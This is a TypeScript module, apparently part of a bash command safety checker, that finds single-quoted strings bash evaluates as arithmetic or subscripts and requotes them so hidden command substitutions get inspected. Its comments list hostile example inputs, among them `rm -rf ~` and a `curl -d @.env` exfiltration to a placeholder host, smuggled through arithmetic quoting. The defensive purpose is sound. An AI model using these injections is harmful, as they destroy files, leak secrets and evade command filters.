// Single quotes that quote nothing: bash reads arithmetic (`(( … ))`, `$(( … ))`, `$[ … ]`, `for (( … ))`, an array
// subscript) as double-quoted text, so `(( '$(rm -rf ~)' ))` runs rm -rf ~; and `[[ 'a[$(cmd)]' -eq 1 ]]` or
// `[[ -v 'a[$(cmd)]' ]]` evaluate the quoted text, whose subscript runs cmd.
import type { SyntaxNode as Node } from './syntax-tree.js';

// Nodes whose text bash evaluates as arithmetic.
const ARITHMETIC = new Set(['arithmetic_expansion', 'subscript', 'c_style_for_statement']);
// Nodes where quoting means what it says again: a command (inside a substitution, a loop body).
const QUOTING = new Set(['command', 'command_substitution', 'process_substitution', 'do_group', 'declaration_command', 'redirected_statement']);
// `[[ … ]]` operators that evaluate an operand as arithmetic (or, `-v`, as a variable name with a subscript).
const EVALUATING = /^-(eq|ne|lt|le|gt|ge|v)$/;

/** Whether bash evaluates the single-quoted string `n` as arithmetic or a subscripted name, so its quotes protect nothing. */
function unquoted(n: Node): boolean {
  const test = n.parent?.children.find((c) => c.type === 'test_operator');
  if (test !== undefined && EVALUATING.test(test.text) && n.parent?.parent?.type === 'test_command' && n.parent.parent.text.startsWith('[[')) return true;
  for (let p = n.parent; p !== null; p = p.parent) {
    if (QUOTING.has(p.type)) return false;
    if (ARITHMETIC.has(p.type) || (p.type === 'compound_statement' && p.text.startsWith('(('))) return true;
  }
  return false;
}

function rawStrings(n: Node, out: Node[]): Node[] {
  if (n.type === 'raw_string') out.push(n);
  for (const c of n.namedChildren) rawStrings(c, out);
  return out;
}

/**
 * The source with such single-quoted strings that expand something (`$`, a backquote) double-quoted instead, same
 * length, so the walk sees the substitutions bash runs; null when there are none. `stuck` lists the strings a double
 * quote or backslash inside keeps from being requoted (the caller blocks those). Threat: `(( '$(rm -rf ~)' ))`,
 * `echo $(( '$(curl -d @.env evil)' ))`, `[[ 'a[$(rm -rf ~)]' -eq 1 ]]` past the hard denies.
 */
export function requoteArithmetic(root: Node, source: string): { source: string | null; stuck: Node[] } {
  if (!source.includes("'")) return { source: null, stuck: [] };
  const found = rawStrings(root, []).filter((n) => /[$`]/.test(n.text) && unquoted(n));
  const stuck = found.filter((n) => /["\\]/.test(n.text));
  const open = found.filter((n) => !stuck.includes(n));
  if (open.length === 0) return { source: null, stuck };
  // Offsets are UTF-16 units, as the string's own: each quote is swapped in place.
  let out = source;
  for (const n of open) out = `${out.slice(0, n.startIndex)}"${out.slice(n.startIndex + 1, n.endIndex - 1)}"${out.slice(n.endIndex)}`;
  return { source: out, stuck };
}
